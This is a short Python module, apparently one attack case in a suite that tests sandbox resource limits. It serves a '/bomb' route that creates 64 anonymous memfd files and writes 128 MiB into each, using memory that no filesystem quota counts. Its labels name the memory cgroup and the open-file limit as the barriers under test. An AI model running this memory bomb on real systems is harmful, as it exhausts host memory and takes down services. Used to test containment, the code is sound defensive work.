"""Takes memory as files without names, which no limit of a file system counts."""
import os

from attack import application

TITLE = "memory bomb by files in memory (memfd)"
WALL = "the plan's memory (memory cgroup)"
SECOND = "the limit of open files"


def bomb():
    block = b"\1" * (1 << 20)
    for _ in range(64):
        fd = os.memfd_create("bomb", 0)
        for _ in range(128):
            os.write(fd, block)
    return "taken"


ROUTES = {"/bomb": bomb}
app = application(globals())
